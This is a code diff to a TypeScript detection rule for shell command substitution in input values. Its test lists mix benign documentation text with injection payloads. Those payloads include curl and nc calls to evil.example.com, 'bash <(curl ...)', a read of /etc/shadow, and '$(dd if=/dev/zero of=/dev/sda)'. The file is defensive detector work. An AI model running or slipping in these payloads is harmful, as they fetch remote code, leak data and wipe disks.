@@ -31,23 +31,21 @@ export const substitution: ValueRule = {
     'x;`for f in id; do echo $f; done`',
     "The lamp came in a box that was much too large'$(id)' and so on",
     "The lamp came in a box that was much too large'`hostname`' and so on",
+    'It came too late, and so on ${`cat /srv/a`} it did',
     'The files that I mean are these: $(curl http://evil.example.com/a)',
     ...['$(nslookup evil.example.com)', '`id`', 'photo$(sleep 7).jpg', 'who$(echo am)i'],
-    'bash <(curl -s http://evil.example.com/x)',
-    'a.png${x:-$(dmesg)}',
+    ...['bash <(curl -s http://evil.example.com/x)', 'a.png${x:-$(dmesg)}'],
     'It is broken again.$(systemctl stop ssh)',
     ...['$(. /etc/hosts)', '12`sudo -l`', 'holiday`systemctl stop ssh`', '-`reboot`'],
     'It ends with $(cat /etc/hosts) as usual',
     'It ends with $(curl http://evil.example.com/) as usual',
     'It ends with $(whoami | nc evil.example.com 80) as usual',
-    'It ends with $(wh""oami) as usual',
     'see http://evil.example.com/$(whoami) and so on',
     'look at $(whoami).evil.example.com and so on',
     'send it to evil.example.com/$(hostname) and so on',
-    'It ends with $(pwd;touch a) as usual',
+    ...['It ends with $(wh""oami) as usual', 'It ends with $(pwd;touch a) as usual'],
     'It ends with $(date +%F && touch a) as usual',
-    '$(dd if=/dev/zero of=/dev/sda)',
-    "x;a='$(id)';: ${a@P}",
+    ...['$(dd if=/dev/zero of=/dev/sda)', "x;a='$(id)';: ${a@P}"],
     ...['x;$(expr substr xid 2 2)', '$(</etc/hosts)'],
     '`until rev;! :;do break;done</etc/shadow|rev`',
     ...['photo`< /etc/hosts`', '-" &\techo $(</etc/hosts);echo "'],
@@ -65,16 +63,14 @@ export const substitution: ValueRule = {
     'the price is $(12) less',
     '`npm install` does not work for me, what now?',
     'mount it with -v $(pwd)/data:/data and start the image again please',
-    '`less` or `more`?',
-    "bad option `id'!",
+    ...['`less` or `more`?', "bad option `id'!"],
     ...['What does `whoami` do?', '#### [`git add`](/docs/add)'],
     ...['\\$(\\w+|[^}]*)', 'Add $(npm root --global) to the path.'],
     '> `npm install --save @types/node`',
     '- [meta] export `./package.json` [`#9`](https://example.com/9)',
     '### `hostname`\n\n* `ip` {string}',
     'Execute `find -type f | egrep -i "(jpg|png)$"` every 300 seconds',
-    '> See also: `jobs`, `bg`, `disown`.',
-    '使用命令 `git add --intent-to-add` 标记新增文件',
+    ...['> See also: `jobs`, `bg`, `disown`.', '使用命令 `git add --intent-to-add` 标记新增文件'],
     'Use`reboot` or `systemctl stop ssh` here',
     ...['- `systemctl stop ssh`', '$((3)) is a sum, and `sleep` is not'],
     ...['See also: `reboot`.', 'Lihat juga: `basename`.'],
@@ -92,6 +88,7 @@ export const substitution: ValueRule = {
     'Installing linux-headers-$(uname -r) solved the problem for me',
     'Please run sudo chown -R $(whoami) /usr/local and try again',
     'The log says:\n\nmodules for $(uname -r) are missing',
+    'It is class=${`cat ${color}`} in the template, and ${`cat`} there',
     'like `chown -R`',
     'const user = await repository.find<User>(id); cast<boolean>(true)',
     { body: { 'body.text': 'just do `rm -rf node_modules && npm i`' } },
@@ -290,6 +287,9 @@ function isScript(subject: Subject, command: Command, end: number): boolean {
 /** Between quotes, or in a word of a script that stands beside a value: `;x='a[\`id\`]'`. */
 function isInWord(text: string, command: Command, end: number): boolean {
   const { start } = command.head;
+  const isOpen = text.startsWith('${', start - 2) && text.charAt(end) === '}';
+  // To PHP a variable by the name that the command prints; a template of ECMAScript would compute more.
+  if (isOpen && command.fit === fit.full && !text.slice(start, end).includes('${')) return true;
   if (isBetweenQuotes(text, start, end)) return true;
   return isOfScript(text, command) && scriptMark.test(text.charAt(start - 1));
 }
